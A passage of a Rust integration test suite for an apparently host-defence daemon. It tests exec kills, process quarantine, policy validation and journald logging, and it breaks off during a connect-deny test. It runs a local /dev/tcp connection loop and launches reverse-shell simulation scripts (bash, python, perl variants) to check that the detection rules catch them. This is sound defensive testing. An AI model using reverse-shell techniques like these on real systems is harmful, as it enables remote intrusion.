//! Response on the real kernel: deny-exec kills in the kernel, quarantine freezes and cuts the
//! network and release restores both, protected processes are spared, bad policy pushes are
//! refused, every incident lands in a real journald with its fields, and an attack simulation
//! from the model's dataset scripts is quarantined by the shipped default policy.

use std::{
    fs,
    io::Read,
    net::TcpListener,
    os::unix::{fs::PermissionsExt, process::ExitStatusExt},
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
    time::{Duration, Instant},
};

use serde_json::Value;
use vigil_tests::{
    Daemon,
    journal::{ensure_journald, field, journal_cursor, read_vigil_entries},
    repo_root, require_root, serial, vigil_cli,
};

fn scratch(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("vigil-response-{}-{name}", std::process::id()));
    let _ = fs::remove_dir_all(&dir);
    fs::create_dir_all(&dir).expect("scratch dir");
    dir
}

/// Copies a system binary to `dir/name` (a path the test's policy can name).
fn copy_bin(from: &str, dir: &Path, name: &str) -> PathBuf {
    fs::create_dir_all(dir).expect("dir");
    let to = dir.join(name);
    fs::copy(from, &to).unwrap_or_else(|e| panic!("copy {from}: {e}"));
    fs::set_permissions(&to, fs::Permissions::from_mode(0o755)).expect("chmod");
    to
}

fn journald(test: &str) -> Option<String> {
    match ensure_journald() {
        // An empty journal has no cursor: read from a second ago rather than from the start,
        // where earlier runs' entries could satisfy a check.
        Ok(()) => Some(journal_cursor().unwrap_or_else(since_a_second_ago)),
        Err(why) if std::env::var_os("CI").is_some() => panic!("{test}: journald is required in CI: {why}"),
        Err(why) => {
            println!("{test}: journald checks skipped: {why}");
            None
        }
    }
}

fn since_a_second_ago() -> String {
    let out = Command::new("date").args(["-d", "-1 sec", "+%Y-%m-%d %H:%M:%S"]).output().expect("date");
    String::from_utf8_lossy(&out.stdout).trim().to_owned()
}

fn entries(cursor: &Option<String>, what: &str, pred: impl Fn(&Value) -> bool) -> Vec<Value> {
    let Some(c) = cursor else { return Vec::new() };
    let found = read_vigil_entries(c, Duration::from_secs(15), pred);
    assert!(!found.is_empty(), "no journald entry for {what}");
    found
}

fn f(e: &Value, name: &str) -> String {
    field(e, name).unwrap_or_default()
}

/// Incidents of `reason` on any of `pids` already in the journal after `cursor` (read for a
/// second): what a test expects none of.
fn incidents_on<S: AsRef<str>>(cursor: &str, reason: &str, pids: &[S]) -> Vec<Value> {
    read_vigil_entries(cursor, Duration::from_secs(1), |e| {
        f(e, "VIGIL_REASON") == reason && pids.iter().any(|p| f(e, "VIGIL_PID") == p.as_ref())
    })
}

/// Waits up to 10 s for the daemon's alert count to reach `at_least`.
fn wait_for_alerts(daemon: &Daemon, at_least: u64) {
    let deadline = Instant::now() + Duration::from_secs(10);
    while daemon.status()["response"]["alerts"].as_u64().unwrap_or(0) < at_least {
        assert!(Instant::now() < deadline, "fewer than {at_least} alerts: {}", daemon.status()["response"]);
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// A TCP server on 127.0.0.1 that sends `file` to its first two clients; its port.
fn serve_twice(file: &Path) -> (Reap, String) {
    serve(file, 2)
}

/// A TCP server on 127.0.0.1 that sends `file` to its first `clients` clients; its port.
fn serve(file: &Path, clients: u32) -> (Reap, String) {
    let mut server = Reap(
        Command::new("/usr/bin/python3")
            .args(["-c", "import socket, sys\ns = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(4)\nprint(s.getsockname()[1], flush=True)\ndata = open(sys.argv[1], 'rb').read()\nfor _ in range(int(sys.argv[2])):\n    c, _ = s.accept(); c.sendall(data); c.close()\n"])
            .arg(file)
            .arg(clients.to_string())
            .stdout(Stdio::piped())
            .spawn()
            .expect("server"),
    );
    let mut port = String::new();
    let out = server.0.stdout.take().expect("stdout");
    std::io::BufRead::read_line(&mut std::io::BufReader::new(out), &mut port).expect("port");
    (server, port.trim().to_owned())
}

/// Kills the child when the test ends, passed or not: a frozen process still dies of SIGKILL.
struct Reap(Child);

impl Drop for Reap {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Kills and removes every quarantine cgroup a daemon's vault names when the test ends, so a
/// failed test leaves no frozen processes behind.
struct QuarantineCleanup(PathBuf);

impl Drop for QuarantineCleanup {
    fn drop(&mut self) {
        let Ok(dir) = fs::read_dir(&self.0) else { return };
        for entry in dir.flatten() {
            let Ok(text) = fs::read_to_string(entry.path().join("record.json")) else { continue };
            let Ok(record) = serde_json::from_str::<Value>(&text) else { continue };
            let Some(cgroup) = record["cgroup"].as_str().map(PathBuf::from) else { continue };
            if cgroup.exists() {
                let _ = fs::write(cgroup.join("cgroup.kill"), "1");
                for _ in 0..50 {
                    if fs::remove_dir(&cgroup).is_ok() {
                        break;
                    }
                    std::thread::sleep(Duration::from_millis(20));
                }
            }
        }
    }
}

fn wait_exit(child: &mut Child, within: Duration) -> Option<std::process::ExitStatus> {
    let deadline = Instant::now() + within;
    while Instant::now() < deadline {
        if let Some(s) = child.try_wait().expect("try_wait") {
            return Some(s);
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    None
}

#[test]
fn a_denied_exec_dies_in_the_kernel_before_running_and_is_journaled() {
    let test = "a_denied_exec_dies_in_the_kernel_before_running_and_is_journaled";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let dir = scratch("deny");
    let denied = copy_bin("/usr/bin/touch", &dir.join("denied"), "touch");
    let policy_dir = dir.join("policy.d");
    fs::create_dir_all(&policy_dir).unwrap();
    fs::write(
        policy_dir.join("50-test.toml"),
        format!(
            "[[rule.exec]]\nname = \"test-deny-exec\"\naction = \"kill\"\npath = [\"{}/**\"]\n",
            dir.join("denied").display()
        ),
    )
    .unwrap();
    let daemon = Daemon::start("deny", &["--policy-dir", policy_dir.to_str().unwrap()]);

    let marker = dir.join("marker");
    let mut child = Command::new(&denied)
        .arg(&marker)
        .spawn()
        .expect("spawn denied");
    let pid = child.id();
    let status =
        wait_exit(&mut child, Duration::from_secs(10)).expect("denied process still running");
    assert_eq!(
        status.signal(),
        Some(libc::SIGKILL),
        "denied exec was not SIGKILLed: {status:?}"
    );
    assert!(
        !marker.exists(),
        "the denied image ran: it wrote its marker"
    );

    let exec = daemon.wait_for("the denied exec", Duration::from_secs(10), |e| {
        e["type"] == "exec" && e["pid"] == pid
    });
    assert_eq!(
        exec["denied"], true,
        "exec event does not say the kernel denied it: {exec}"
    );
    let deadline = Instant::now() + Duration::from_secs(5);
    while daemon.status()["response"]["kernel_exec_denied"]
        .as_u64()
        .unwrap_or(0)
        == 0
    {
        assert!(
            Instant::now() < deadline,
            "status does not count the denied exec: {}",
            daemon.status()["response"]
        );
        std::thread::sleep(Duration::from_millis(200));
    }

    let kill = entries(&cursor, "the kernel kill", |e| {
        f(e, "VIGIL_EVENT") == "kill" && f(e, "VIGIL_PID") == pid.to_string()
    });
    let e = &kill[0];
    assert_eq!(f(e, "VIGIL_REASON"), "test-deny-exec");
    assert_eq!(f(e, "PRIORITY"), "2");
    assert!(f(e, "VIGIL_EXE").ends_with("/denied/touch"), "{e}");
    assert_eq!(f(e, "VIGIL_UID"), "0");
    assert!(
        !f(e, "MESSAGE_ID").is_empty()
            && !f(e, "VIGIL_ANCESTRY").is_empty()
            && !f(e, "VIGIL_CMDLINE").is_empty(),
        "{e}"
    );
    assert!(f(e, "VIGIL_ACTION_OUTCOME").contains("kernel"), "{e}");
    drop(daemon);
}

/// A bash loop that, every 100 ms, appends `<n> ok|fail` after trying to connect to `port`.
fn connecting_loop(bash: &Path, log: &Path, port: u16) -> Child {
    let script = format!(
        "i=0; while :; do i=$((i+1)); if (exec 3<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null; then r=ok; else r=fail; fi; echo \"$i $r\" >> {}; sleep 0.1; done",
        log.display()
    );
    Command::new(bash)
        .arg("-c")
        .arg(script)
        .stdin(Stdio::null())
        .spawn()
        .expect("spawn loop")
}

fn lines(log: &Path) -> Vec<String> {
    fs::read_to_string(log)
        .unwrap_or_default()
        .lines()
        .map(str::to_owned)
        .collect()
}

fn wait_lines(log: &Path, n: usize, within: Duration) -> Vec<String> {
    let deadline = Instant::now() + within;
    loop {
        let l = lines(log);
        if l.len() >= n || Instant::now() > deadline {
            return l;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

#[test]
fn quarantine_freezes_and_cuts_the_network_and_release_restores_both() {
    let test = "quarantine_freezes_and_cuts_the_network_and_release_restores_both";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let dir = scratch("quarantine");
    let bash = copy_bin("/usr/bin/bash", &dir.join("suspect"), "bash");
    let policy_dir = dir.join("policy.d");
    fs::create_dir_all(&policy_dir).unwrap();
    fs::write(
        policy_dir.join("50-test.toml"),
        format!(
            "[[rule.exec]]\nname = \"test-quarantine\"\naction = \"quarantine\"\npath = [\"{}\"]\n",
            bash.display()
        ),
    )
    .unwrap();
    let listener = TcpListener::bind("127.0.0.1:0").expect("listener");
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for c in listener.incoming() {
            drop(c);
        }
    });
    let state = dir.join("state");
    let args = [
        "--policy-dir",
        policy_dir.to_str().unwrap(),
        "--state-dir",
        state.to_str().unwrap(),
    ];
    let daemon = Daemon::start("quarantine", &args);
    let _cleanup = QuarantineCleanup(state.join("quarantine"));
    let log = dir.join("progress.log");
    let child = Reap(connecting_loop(&bash, &log, port));
    let pid = child.0.id();

    // The quarantine happens milliseconds after exec: find it.
    let deadline = Instant::now() + Duration::from_secs(15);
    let record = loop {
        let (ok, out, err) = vigil_cli(&daemon.socket, &["quarantine", "list", "--json"]);
        assert!(ok, "quarantine list: {err}");
        let list: Value = serde_json::from_str(&out).expect("json");
        if let Some(r) = list
            .as_array()
            .and_then(|a| a.iter().find(|r| r["pid"] == pid).cloned())
        {
            break r;
        }
        assert!(
            Instant::now() < deadline,
            "pid {pid} was not quarantined; log:\n{}",
            daemon.log()
        );
        std::thread::sleep(Duration::from_millis(100));
    };
    let id = record["id"].as_str().expect("id").to_owned();
    // Reported, not asserted (timings are noisy here): from the first recorded step to active.
    let ms = |line: &str| -> Option<f64> {
        let t = line.get(11..23)?; // HH:MM:SS.mmm of "YYYY-MM-DDTHH:MM:SS.mmmZ ..."
        let mut parts = t.split(':');
        let (h, m, s): (f64, f64, f64) = (parts.next()?.parse().ok()?, parts.next()?.parse().ok()?, parts.next()?.parse().ok()?);
        Some(((h * 60.0 + m) * 60.0 + s) * 1000.0)
    };
    let steps: Vec<&str> = record["events"].as_array().map(|a| a.iter().filter_map(Value::as_str).collect()).unwrap_or_default();
    if let (Some(first), Some(active)) = (steps.first().and_then(|l| ms(l)), steps.iter().rev().find(|l| l.contains("active")).and_then(|l| ms(l))) {
        let contained = steps.iter().find(|l| l.get(25..).is_some_and(|t| t.starts_with("contained:"))).and_then(|l| ms(l));
        eprintln!(
            "quarantine {id}: recorded to contained in {} ms, to active in {:.0} ms ({} steps)",
            contained.map_or("?".to_owned(), |c| format!("{:.0}", c - first)),
            active - first,
            steps.len()
        );
    }
    // Contained (SIGSTOP, network cut by tgid) before the first slow cgroup.procs write.
    let step_at = |prefix: &str| steps.iter().position(|l| l.get(25..).is_some_and(|t| t.starts_with(prefix)));
    let (contained, moved) = (step_at("contained:"), step_at("move pid"));
    assert!(
        matches!((contained, moved), (Some(c), Some(m)) if c < m),
        "no \"contained:\" step before \"move pid\": {steps:#?}"
    );
    assert!(steps[contained.unwrap()].contains("stopped (SIGSTOP)"), "{steps:#?}");
    assert_eq!(record["state"], "active", "{record}");
    assert_eq!(record["frozen_verified"], true, "{record}");
    assert_eq!(record["network_cut"], true, "{record}");

    // Frozen: no progress.
    std::thread::sleep(Duration::from_millis(300));
    let before = lines(&log).len();
    std::thread::sleep(Duration::from_millis(1000));
    assert_eq!(
        lines(&log).len(),
        before,
        "the quarantined process kept running"
    );

    // Evidence in the vault, root-only.
    let vault = state.join("quarantine").join(&id);
    let meta = fs::metadata(&vault).expect("vault dir");
    assert_eq!(
        meta.permissions().mode() & 0o077,
        0,
        "vault is not root-only"
    );
    let mut copy = Vec::new();
    fs::File::open(vault.join("exe"))
        .expect("exe copy")
        .read_to_end(&mut copy)
        .unwrap();
    assert_eq!(copy, fs::read(&bash).unwrap(), "vaulted executable differs");

    // A daemon restart keeps the quarantine: the record says so and the network cut is re-applied.
    let (stopped, _) = daemon.stop();
    assert!(stopped.success(), "vigil did not stop cleanly");
    let daemon = Daemon::start("quarantine-restarted", &args);
    let (ok, out, err) = vigil_cli(&daemon.socket, &["quarantine", "show", &id]);
    assert!(ok, "quarantine show after restart: {err}");
    let after_restart: Value = serde_json::from_str(&out).expect("json");
    assert_eq!(after_restart["state"], "active", "{after_restart}");
    assert_eq!(lines(&log).len(), before, "the quarantined process ran while vigil restarted");

    // Thawed behind vigil's back, it runs again but its network stays cut: the two are separate locks.
    let cgroup = PathBuf::from(record["cgroup"].as_str().expect("cgroup path"));
    fs::write(cgroup.join("cgroup.freeze"), "0").expect("thaw by hand");
    let thawed = wait_lines(&log, before + 6, Duration::from_secs(10));
    assert!(
        thawed.len() >= before + 6,
        "no progress after a manual thaw"
    );
    // The first line after the thaw may report a connect made before the freeze (stopped between
    // connect() and the write of its line); every attempt after it was made in quarantine.
    assert!(
        thawed[before + 1..].iter().all(|l| l.ends_with("fail")),
        "connect() succeeded from quarantine: {:?}",
        &thawed[before..]
    );
    // The status snapshot refreshes every second.
    let deadline = Instant::now() + Duration::from_secs(5);
    while daemon.status()["response"]["kernel_net_denied_quarantine"]
        .as_u64()
        .unwrap_or(0)
        == 0
    {
        assert!(
            Instant::now() < deadline,
            "status does not count the refused connects: {}",
            daemon.status()["response"]
        );
        std::thread::sleep(Duration::from_millis(200));
    }
    fs::write(cgroup.join("cgroup.freeze"), "1").expect("refreeze");

    // Release restores both.
    let (ok, _, err) = vigil_cli(&daemon.socket, &["quarantine", "release", &id]);
    assert!(ok, "release: {err}");
    let n = lines(&log).len();
    let after = wait_lines(&log, n + 5, Duration::from_secs(10));
    assert!(after.len() >= n + 5, "no progress after release");
    // Running, not left stopped by the containment's SIGSTOP (state T).
    let state = fs::read_to_string(format!("/proc/{pid}/stat"))
        .ok()
        .and_then(|t| t.rsplit_once(')').and_then(|(_, rest)| rest.split_whitespace().next().map(str::to_owned)))
        .unwrap_or_default();
    assert!(!state.is_empty() && state != "T", "pid {pid} after release is in state {state:?}");
    assert!(
        after[after.len() - 3..].iter().all(|l| l.ends_with("ok")),
        "network not restored: {:?}",
        &after[n..]
    );
    assert!(!cgroup.exists(), "quarantine cgroup left behind");

    let q = entries(&cursor, "the quarantine", |e| {
        f(e, "VIGIL_EVENT") == "quarantine" && f(e, "VIGIL_QUARANTINE_ID") == id
    });
    assert_eq!(f(&q[0], "VIGIL_REASON"), "test-quarantine");
    assert_eq!(f(&q[0], "PRIORITY"), "2");
    assert_eq!(f(&q[0], "VIGIL_PID"), pid.to_string());
    entries(&cursor, "the release", |e| {
        f(e, "VIGIL_EVENT") == "release" && f(e, "VIGIL_QUARANTINE_ID") == id
    });

    drop(child);
    drop(daemon);
}

#[test]
fn protected_processes_are_spared_and_a_protected_name_is_not_a_disguise() {
    let test = "protected_processes_are_spared_and_a_protected_name_is_not_a_disguise";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let dir = scratch("protected");
    // k/: a kill rule the kernel enforces at exec. u/: one that stays in user space because a
    // protected path lies under it.
    let plain = copy_bin("/usr/bin/sleep", &dir.join("k"), "plain-sleep");
    let disguised = copy_bin("/usr/bin/sleep", &dir.join("k"), "sshd");
    let listed = copy_bin("/usr/bin/sleep", &dir.join("u"), "guarded-sleep");
    let policy_dir = dir.join("policy.d");
    fs::create_dir_all(&policy_dir).unwrap();
    fs::write(
        policy_dir.join("50-test.toml"),
        format!(
            "[[rule.exec]]\nname = \"test-kill-k\"\naction = \"kill\"\npath = [\"{0}/k/**\"]\n\n\
             [[rule.exec]]\nname = \"test-kill-u\"\naction = \"kill\"\npath = [\"{0}/u/**\"]\n\n\
             [protected]\nexe = [\"{1}\"]\n",
            dir.display(),
            listed.display()
        ),
    )
    .unwrap();
    let daemon = Daemon::start("protected", &["--policy-dir", policy_dir.to_str().unwrap()]);

    // An ordinary match dies in the kernel.
    let mut victim = Command::new(&plain).arg("30").spawn().expect("spawn");
    let status = wait_exit(&mut victim, Duration::from_secs(10)).expect("unprotected match survived");
    assert_eq!(status.signal(), Some(libc::SIGKILL));
    let pid = victim.id();
    let exec = daemon.wait_for("the plain exec", Duration::from_secs(10), |e| e["type"] == "exec" && e["pid"] == pid);
    assert_eq!(exec["denied"], true, "{exec}");

    // A binary merely called sshd: the kernel spares the name, user space checks the path and
    // kills it all the same.
    let mut fake = Command::new(&disguised).arg("30").spawn().expect("spawn");
    let status = wait_exit(&mut fake, Duration::from_secs(10)).expect("a binary named sshd was spared");
    assert_eq!(status.signal(), Some(libc::SIGKILL));
    let pid = fake.id();
    let exec = daemon.wait_for("the disguised exec", Duration::from_secs(10), |e| e["type"] == "exec" && e["pid"] == pid);
    assert_eq!(exec["denied"], false, "the kernel should defer a protected name to user space: {exec}");

    // The policy's protected path is spared, with an alert that says why.
    let mut spared = Reap(Command::new(&listed).arg("30").spawn().expect("spawn"));
    std::thread::sleep(Duration::from_millis(1500));
    assert!(spared.0.try_wait().unwrap().is_none(), "a protected process was killed");
    let pid = spared.0.id().to_string();
    let e = entries(&cursor, "the spared alert", |e| f(e, "VIGIL_PID") == pid);
    if !e.is_empty() {
        assert!(e.iter().all(|e| f(e, "VIGIL_EVENT") == "alert"), "{e:?}");
        assert!(f(&e[0], "VIGIL_ACTION_OUTCOME").contains("protected"), "{:?}", e[0]);
    }
    drop(spared);
    drop(daemon);
}

#[test]
fn an_invalid_policy_push_is_rejected_and_the_last_good_policy_keeps_enforcing() {
    let test = "an_invalid_policy_push_is_rejected_and_the_last_good_policy_keeps_enforcing";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let dir = scratch("push");
    let denied = copy_bin("/usr/bin/touch", &dir.join("denied"), "touch");
    let daemon = Daemon::start_enforcing("push", &[]);
    let (ok, out, _) = vigil_cli(&daemon.socket, &["policy", "show"]);
    assert!(ok);
    let v0: Value = serde_json::from_str(&out).expect("policy show is JSON");

    let good = dir.join("20-deny.toml");
    fs::write(
        &good,
        format!(
            "[[rule.exec]]\nname = \"pushed-deny\"\naction = \"kill\"\npath = [\"{}\"]\n",
            denied.display()
        ),
    )
    .unwrap();
    let (ok, out, err) = vigil_cli(&daemon.socket, &["policy", "push", good.to_str().unwrap()]);
    assert!(ok, "good push refused: {err}");
    assert!(out.contains("applied"), "{out}");
    let (_, out, _) = vigil_cli(&daemon.socket, &["policy", "show"]);
    let v1: Value = serde_json::from_str(&out).unwrap();
    assert_ne!(v0["version"], v1["version"]);
    assert!(
        daemon.dir.join("policy.d/20-deny.toml").exists(),
        "pushed file not written into policy.d"
    );

    // Line 3, column 10: `action` has a value no rule can have.
    let bad = dir.join("30-bad.toml");
    fs::write(
        &bad,
        "[[rule.exec]]\nname = \"broken\"\naction = \"explode\"\npath = [\"/x\"]\n",
    )
    .unwrap();
    let out = Command::new(vigil_tests::vigil_bin())
        .args(["policy", "push"])
        .arg(&bad)
        .arg("--control-socket")
        .arg(&daemon.socket)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "bad push did not exit 1");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("30-bad.toml") && err.contains(":3:") && err.contains("action"),
        "error does not name file, line and field: {err}"
    );
    assert!(
        !daemon.dir.join("policy.d/30-bad.toml").exists(),
        "rejected file was written"
    );
    let (_, out, _) = vigil_cli(&daemon.socket, &["policy", "show"]);
    let v2: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(
        v1["version"], v2["version"],
        "a rejected push changed the policy"
    );

    // `policy check` agrees, offline.
    let out = Command::new(vigil_tests::vigil_bin())
        .args(["policy", "check"])
        .arg(&bad)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let out = Command::new(vigil_tests::vigil_bin())
        .args(["policy", "check"])
        .arg(repo_root().join("packaging/policy.toml"))
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "the shipped policy does not check: {}",
        String::from_utf8_lossy(&out.stderr)
    );

    // The last good policy still enforces.
    let marker = dir.join("marker");
    let mut child = Command::new(&denied).arg(&marker).spawn().unwrap();
    let status = wait_exit(&mut child, Duration::from_secs(10)).expect("still running");
    assert_eq!(status.signal(), Some(libc::SIGKILL));
    assert!(!marker.exists());

    entries(&cursor, "the rejected push", |e| {
        f(e, "VIGIL_EVENT") == "policy" && f(e, "VIGIL_ACTION_OUTCOME").starts_with("rejected")
    });
    let applied = entries(&cursor, "the applied push", |e| {
        f(e, "VIGIL_EVENT") == "policy"
            && f(e, "VIGIL_POLICY_VERSION") == v1["version"].as_str().unwrap_or("-")
    });
    assert_eq!(f(&applied[0], "PRIORITY"), "5");

    // Config management dropping a file into policy.d is picked up too (inotify).
    let dropped = daemon.dir.join("policy.d/40-dropped.toml");
    fs::write(&dropped, "[[rule.exec]]\nname = \"dropped-rule\"\naction = \"alert\"\npath = [\"/nonexistent/dropped\"]\n").unwrap();
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let (_, out, _) = vigil_cli(&daemon.socket, &["policy", "show"]);
        if out.contains("dropped-rule") {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "a file dropped into policy.d was not applied"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    let (_, out, _) = vigil_cli(&daemon.socket, &["policy", "show"]);
    let in_force: Value = serde_json::from_str(&out).unwrap();

    // A bad file lands in policy.d while vigil is down: the next start runs the last good
    // policy (and says so in journald) instead of refusing to start and leaving the host bare.
    let (policy_d, state) = (daemon.dir.join("policy.d"), daemon.dir.join("state"));
    let (stopped, _) = daemon.stop();
    assert!(stopped.success());
    fs::write(policy_d.join("50-broken.toml"), "mode = \"sometimes\"\n").unwrap();
    let daemon = Daemon::start_enforcing(
        "push-restarted",
        &["--policy-dir", policy_d.to_str().unwrap(), "--state-dir", state.to_str().unwrap()],
    );
    let (_, out, _) = vigil_cli(&daemon.socket, &["policy", "show"]);
    let after: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(after["version"], in_force["version"], "not the last good policy after a restart");
    let fallback = entries(&cursor, "the last-good fallback", |e| {
        f(e, "VIGIL_EVENT") == "policy" && f(e, "VIGIL_ACTION_OUTCOME").starts_with("fallback")
    });
    if let Some(e) = fallback.first() {
        assert_eq!(f(e, "PRIORITY"), "2");
        assert!(f(e, "MESSAGE").contains("50-broken.toml"), "{e}");
    }
    drop(daemon);
}

/// Reverse-shell variants that need nothing beyond bash, python3 and perl.
const VARIANTS: &str = "bash_devtcp python_socket perl_socket";

/// Runs a dataset scenario step.
fn scenario(label: &str, name: &str, step: &str) -> Command {
    use std::os::unix::process::CommandExt;
    let mut c = Command::new("bash");
    c.arg(repo_root().join(format!("models/scenarios/{label}/{name}.sh")))
        .arg(step);
    // Its own session: interactive shells in the scenario must not touch the test's group.
    // SAFETY: setsid is async-signal-safe and touches no memory.
    unsafe {
        c.pre_exec(|| {
            libc::setsid();
            Ok(())
        });
    }
    c
}

#[test]
fn the_default_policy_quarantines_a_reverse_shell_and_leaves_benign_work_alone() {
    let test = "the_default_policy_quarantines_a_reverse_shell_and_leaves_benign_work_alone";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    let out = scenario("malicious", "reverse_shell", "setup")
        .env("REVERSE_SHELL_VARIANTS", VARIANTS)
        .output()
        .expect("setup");
    assert!(
        out.status.success(),
        "reverse_shell setup: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let daemon = Daemon::start_enforcing("default-policy", &[]);
    let _cleanup = QuarantineCleanup(daemon.dir.join("state/quarantine"));
    let mut run = Reap(
        scenario("malicious", "reverse_shell", "run")
            .env("REVERSE_SHELL_VARIANTS", VARIANTS)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("run"),
    );

    // Frozen shells do not die of `timeout`'s SIGTERM: kill each quarantine as it appears so the
    // scenario can go on, and remember what was quarantined.
    let mut seen: Vec<Value> = Vec::new();
    let deadline = Instant::now() + Duration::from_secs(120);
    let finished = loop {
        let (_, out, _) = vigil_cli(&daemon.socket, &["quarantine", "list", "--json"]);
        for r in serde_json::from_str::<Value>(&out)
            .ok()
            .and_then(|v| v.as_array().cloned())
            .unwrap_or_default()
        {
            if r["state"] == "active" && !seen.iter().any(|s| s["id"] == r["id"]) {
                let id = r["id"].as_str().unwrap_or_default().to_owned();
                let (ok, _, err) = vigil_cli(&daemon.socket, &["quarantine", "kill", &id]);
                assert!(ok, "quarantine kill {id}: {err}");
                seen.push(r);
            }
        }
        if let Some(s) = run.0.try_wait().unwrap() {
            break s;
        }
        assert!(
            Instant::now() < deadline,
            "the scenario did not finish; log:\n{}",
            daemon.log()
        );
        std::thread::sleep(Duration::from_millis(200));
    };
    let _ = scenario("malicious", "reverse_shell", "teardown").output();
    eprintln!("reverse_shell finished ({finished:?}); quarantined: {seen:#?}");
    assert!(
        !seen.is_empty(),
        "no reverse shell was quarantined; log:\n{}",
        daemon.log()
    );
    let reasons: Vec<&str> = seen.iter().filter_map(|r| r["reason"].as_str()).collect();
    assert!(
        reasons
            .iter()
            .all(|r| ["shell-on-socket", "shell-connects-out", "reverse-shell-command", "reverse-shell-code"].contains(r)),
        "unexpected reasons: {reasons:?}"
    );
    // Every variant run here spells its technique on a command line.
    for rule in ["reverse-shell-command", "reverse-shell-code"] {
        assert!(reasons.contains(&rule), "no one-liner was named by {rule}: {reasons:?}");
    }
    for r in &seen {
        assert_eq!(r["frozen_verified"], true, "{r}");
        assert_eq!(r["network_cut"], true, "{r}");
    }
    // Let the once-a-second status snapshot catch up before comparing counters.
    std::thread::sleep(Duration::from_millis(1500));
    let st = daemon.status();
    // Failures are possible here without a fault (a shell hit by two rules may already be gone
    // when the second is handled); they are shown, not asserted.
    eprintln!("response status after the attack: {}", st["response"]);
    entries(&cursor, "the reverse shell quarantine", |e| {
        f(e, "VIGIL_EVENT") == "quarantine" && !f(e, "VIGIL_QUARANTINE_ID").is_empty()
    });

    // Benign work under the same daemon: nothing killed or quarantined.
    let before = st["response"].clone();
    for step in ["setup", "run", "teardown"] {
        let out = scenario("benign", "shell_session", step)
            .stdin(Stdio::null())
            .output()
            .expect("benign");
        assert!(
            out.status.success(),
            "shell_session {step}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    std::thread::sleep(Duration::from_millis(1500));
    let after = daemon.status()["response"].clone();
    assert_eq!(
        before["kills"], after["kills"],
        "benign work was killed: {after}"
    );
    assert_eq!(
        before["quarantines"], after["quarantines"],
        "benign work was quarantined: {after}"
    );
    drop(daemon);
}

/// Only internet sockets on stdin/stdout make a reverse shell: a service whose stdout is a Unix
/// socket (journald's) is left alone, the same shell on a TCP connection is quarantined.
#[test]
fn a_shell_on_a_unix_socket_is_not_a_reverse_shell() {
    let test = "a_shell_on_a_unix_socket_is_not_a_reverse_shell";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let daemon = Daemon::start_enforcing("stdio", &[]);
    let _cleanup = QuarantineCleanup(daemon.dir.join("state/quarantine"));
    let (unix, _peer) = std::os::unix::net::UnixStream::pair().expect("socketpair");
    let on_unix = Reap(
        Command::new("/usr/bin/bash")
            .args(["-c", "sleep 3"])
            .stdin(Stdio::null())
            .stdout(std::os::fd::OwnedFd::from(unix))
            .spawn()
            .expect("spawn"),
    );
    let listener = TcpListener::bind("127.0.0.1:0").expect("listener");
    let tcp = std::net::TcpStream::connect(listener.local_addr().unwrap()).expect("connect");
    let _accepted = listener.accept().expect("accept");
    let on_tcp = Reap(
        Command::new("/usr/bin/bash")
            .args(["-c", "sleep 3"])
            .stdin(Stdio::null())
            .stdout(std::os::fd::OwnedFd::from(tcp))
            .spawn()
            .expect("spawn"),
    );
    let (u, t) = (on_unix.0.id(), on_tcp.0.id());
    let eu = daemon.wait_for("the exec on a unix socket", Duration::from_secs(10), |e| e["type"] == "exec" && e["pid"] == u);
    let et = daemon.wait_for("the exec on a tcp socket", Duration::from_secs(10), |e| e["type"] == "exec" && e["pid"] == t);
    assert_eq!(eu["stdio_socket"], false, "{eu}");
    assert_eq!(et["stdio_socket"], true, "{et}");
    let deadline = Instant::now() + Duration::from_secs(10);
    let list = loop {
        let (_, out, _) = vigil_cli(&daemon.socket, &["quarantine", "list", "--json"]);
        let list: Value = serde_json::from_str(&out).unwrap_or_default();
        if list.as_array().is_some_and(|a| a.iter().any(|r| r["pid"] == t)) || Instant::now() > deadline {
            break list;
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    let pids: Vec<&Value> = list.as_array().map(|a| a.iter().map(|r| &r["pid"]).collect()).unwrap_or_default();
    assert!(pids.iter().any(|p| **p == t), "the shell on TCP was not quarantined: {list}");
    assert!(!pids.iter().any(|p| **p == u), "the shell on a Unix socket was quarantined: {list}");
    drop((on_unix, on_tcp));
    drop(daemon);
}

/// Outbound deny lists are enforced in the kernel for IPv4, IPv6 and IPv4-mapped IPv6, by
/// address and port, and each refusal is reported as an alert naming the rule.
#[test]
fn connect_deny_lists_refuse_in_the_kernel_and_alert() {
    let test = "connect_deny_lists_refuse_in_the_kernel_and_alert";
    if !require_root(test) {
        return;
    }
    let _serial = serial();
    let cursor = journald(test);
    // Dual-stack: one listener answers 127.0.0.x and ::1 alike.
    let listener = TcpListener::bind("[::]:0").expect("listener");
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for c in listener.incoming() {
            drop(c);
        }
    });
    let dir = scratch("netdeny");
